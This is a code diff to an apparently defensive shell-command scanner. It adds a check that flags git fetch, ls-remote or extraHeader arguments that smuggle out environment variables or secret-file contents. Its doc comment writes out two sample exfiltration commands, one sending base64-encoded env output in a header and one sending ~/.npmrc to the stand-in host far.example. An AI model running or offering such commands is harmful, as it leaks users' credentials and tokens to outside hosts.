@@ -3,8 +3,8 @@ import { logsInWith } from '../credential-read/own-use.ts'
 import { secretFile } from '../credential-read/secret-files.ts'
 import { finding, shown } from '../detector.ts'
 import { placeOf } from '../paths.ts'
-import { upstreamOf } from '../shell/lineage.ts'
-import type { Invocation, Reading } from '../shell/model.ts'
+import { sourcesOf, upstreamOf } from '../shell/lineage.ts'
+import { hasMarker, type Invocation, type Reading } from '../shell/model.ts'
 import { dataFile, matterOf } from './matters.ts'
 
 const NAME = 'upload'
@@ -28,7 +28,7 @@ export function carried(invocation: Invocation, reading: Reading): readonly Find
   if (name === 'tar') return archivedAway(args)
   if (name === 'ssh') return throughShell(invocation, reading)
   if (mailers.test(name)) return mailed(invocation, reading)
-  if (name === 'git') return pushed(args, reading)
+  if (name === 'git') return [...pushed(args, reading), ...asksWith(args, reading)]
   if (name === 'put' || name === 'mput') return typedInto(reading)
   const stdin = streams.stdin.kind === 'file' ? [streams.stdin.path] : []
   const isSending =
@@ -134,6 +134,23 @@ function archivedAway(args: readonly string[]): readonly Finding[] {
   return creates && target !== undefined && !args.includes('--force-local')
     ? [finding(NAME, 'upload.copy', 'medium', `tar writes its archive to ${shown(target)}`)]
     : []
+}
+
+/** `git -c http.extraHeader="X: $(env | base64)" fetch`, `git ls-remote https://far.example/$(cat ~/.npmrc)`. */
+function asksWith(args: readonly string[], reading: Reading): readonly Finding[] {
+  const word = args.find((arg) => hasMarker(arg) && /^https?:\/\/|\bextraHeader=/i.test(arg))
+  if (word === undefined) return []
+  const isHome = /^https?:\/\/[^/]*@?(github\.com|gitlab\.com|bitbucket\.org|dev\.azure\.com)\//.test(word)
+  const source = sourcesOf(word, reading).find(
+    (each) =>
+      /^(env|printenv|history|base64|base32|xxd|gzip)$/.test(each.name) ||
+      (!isHome && each.name === 'gh' && each.args[0] === 'auth' && !/extraHeader/i.test(word)) ||
+      each.args.some((arg) => secretFile(arg) !== undefined),
+  )
+  const isLogin = /extraHeader=\s*Authorization:/i.test(word) && source?.name !== 'env'
+  return source === undefined || isLogin
+    ? []
+    : [finding(NAME, 'upload.address', 'medium', `git asks with the output of ${shown(source.name)}`)]
 }
 
 /** A push to an address that is no configured remote. */
